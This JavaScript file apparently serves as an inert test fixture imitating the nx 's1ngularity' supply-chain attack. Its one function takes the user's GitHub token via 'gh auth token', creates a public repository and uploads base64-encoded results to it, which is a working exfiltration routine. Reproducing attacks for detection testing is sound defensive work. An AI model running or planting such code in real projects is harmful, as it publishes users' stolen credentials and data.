/* eslint-disable */
// Inert imitation of the nx s1ngularity upload (incidents.md section 5) through octokit: a public
// repository named s1ngularity-repository is created with a token from gh. Never called.
const { execSync } = require('child_process');

async function upload(Octokit, results) {
  const token = execSync('gh auth token', { encoding: 'utf8' }).trim();
  const octokit = new Octokit({ auth: token });
  const { data } = await octokit.request('POST /user/repos', { name: 's1ngularity-repository', private: false });
  await octokit.request('PUT /repos/{owner}/{repo}/contents/{path}', { owner: data.owner.login, repo: data.name, path: 'results.b64', message: 'r', content: results });
}

module.exports = { upload };
